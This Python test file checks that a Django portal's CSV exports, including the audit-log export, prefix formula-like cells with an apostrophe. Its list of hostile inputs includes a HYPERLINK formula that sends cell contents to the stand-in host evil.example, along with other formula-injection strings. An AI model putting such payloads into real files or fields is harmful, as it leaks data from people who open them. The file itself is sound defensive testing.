"""CSV exports cannot attack the spreadsheet that opens them: one writer (``portal.csvexport``) turns a cell that
starts like a formula into text, whoever chose the value."""

from __future__ import annotations

import csv
import io

import pytest
from django.db import transaction

from portal import audit, csvexport
from tests.factories import UserFactory, grant_role

HOSTILE = ('=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+1", "-2+3", "@A1", "\t=1+1", "\r=1+1",
           "＝1+1")


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_that_starts_like_a_formula_becomes_text(value):
    (row,) = csv.reader(io.StringIO(csvexport.csv_text([[value, "plain", 7, None]])))
    assert row == ["'" + value, "plain", "7", ""]


def test_harmless_values_are_written_as_they_are():
    values = ["matrix-agent", "a=b", "x+1", "2025-01-01T10:00:00+00:00", "", "it's"]
    (row,) = csv.reader(io.StringIO(csvexport.csv_text([[*values, -3, 1.5]])))
    assert row == [*values, "-3", "1.5"]  # numbers we write ourselves are numbers, not someone's formula


@pytest.mark.django_db
def test_r23_audit_export_neutralises_names_people_choose(client, world):
    reader = UserFactory(username="@A1")
    grant_role(reader, "global-administrator")
    with transaction.atomic():
        audit.record(actor=reader, action="workspace.rename", target=world.alpha, target_label=HOSTILE[0],
                     before={"name": "-2+3"}, after={"name": "+1+1"})
    client.force_login(world.ga)
    text = b"".join(client.get("/audit/export/?format=csv&action=workspace.rename").streaming_content).decode()
    (row,) = csv.DictReader(io.StringIO(text))
    assert row["target_label"] == "'" + HOSTILE[0]
    assert row["actor_name"] == "'@A1"
    assert row["action"] == "workspace.rename" and row["before"] == '{"name": "-2+3"}'  # JSON starts with {
